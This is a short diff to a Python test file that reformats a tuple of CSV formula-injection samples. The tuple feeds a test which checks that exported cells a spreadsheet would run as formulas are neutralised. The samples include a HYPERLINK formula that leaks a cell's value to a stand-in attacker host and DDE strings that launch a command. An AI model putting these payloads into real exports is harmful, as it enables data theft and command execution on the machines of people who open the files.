@@ -165,8 +165,15 @@ def test_csv_uses_crlf_and_names_the_filter():
     assert {r["kind_filter"] for r in csv_rows(data)} == {"Mediation"}
 
 
-FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
-            "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\tTab Council", "\rCR Council")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\tTab Council",
+    "\rCR Council",
+)
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_neutralised():
